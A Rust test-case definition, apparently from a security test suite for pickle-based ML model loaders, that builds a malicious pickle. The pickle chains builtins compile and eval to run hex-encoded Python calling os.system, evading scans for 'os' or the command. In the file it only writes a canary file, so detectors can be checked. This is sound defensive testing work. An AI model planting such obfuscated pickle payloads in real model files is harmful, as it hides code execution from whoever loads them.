//! `eval` of `compile` of `exec`: no name of a dangerous module stands in the file.

use super::*;
use crate::pickle::Op;

/// Source in hexadecimal is decoded, compiled and run.
pub const ATTACK: Attack = Attack {
    id: "eval-compile-chain",
    title: "source that is decoded, compiled and run",
    summary: "The pickle names builtins alone: compile makes code of a short expression, \
              eval runs it, and that decodes and runs the true source, which calls \
              os.system. A search for the command, the path or the name os finds nothing.",
    severity: Severity::Critical,
    targets: Targets::Python(Loader::ALL),
    techniques: &[
        techniques::PYTHON,
        techniques::OBFUSCATED_FILES_OR_INFORMATION,
        techniques::DEOBFUSCATE_DECODE_FILES_OR_INFORMATION,
        techniques::UNSAFE_ML_ARTIFACTS,
    ],
    cwe: &[502, 95],
    references: &[
        Reference {
            title: "ReversingLabs: malware in models on Hugging Face (nullifAI)",
            url: "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
        },
        Reference {
            title: "Python documentation: compile",
            url: "https://docs.python.org/3/library/functions.html#compile",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Changed(CANARY), Sign::Happened(EventKind::Exec, "echo fallen")],
        policy: &[
            Evidence { kind: EventKind::Process, text: "" },
            Evidence { kind: EventKind::Exec, text: "echo fallen" },
        ],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let command = format!("echo fallen > '{}'", scene.path(CANARY));
    let source = format!("__import__('os').system({})", payload::quoted(&command));
    let hexadecimal: String = source.bytes().map(|byte| format!("{byte:02x}")).collect();
    let expression = format!("exec(bytes.fromhex('{hexadecimal}'))");
    payload::file(ATTACK.id, target, |assembler| {
        assembler.global("builtins", "eval").global("builtins", "compile");
        assembler.text(&expression).text("weights").text("eval").op(Op::Tuple3).op(Op::Reduce);
        assembler.op(Op::Tuple1).op(Op::Reduce);
    })
}
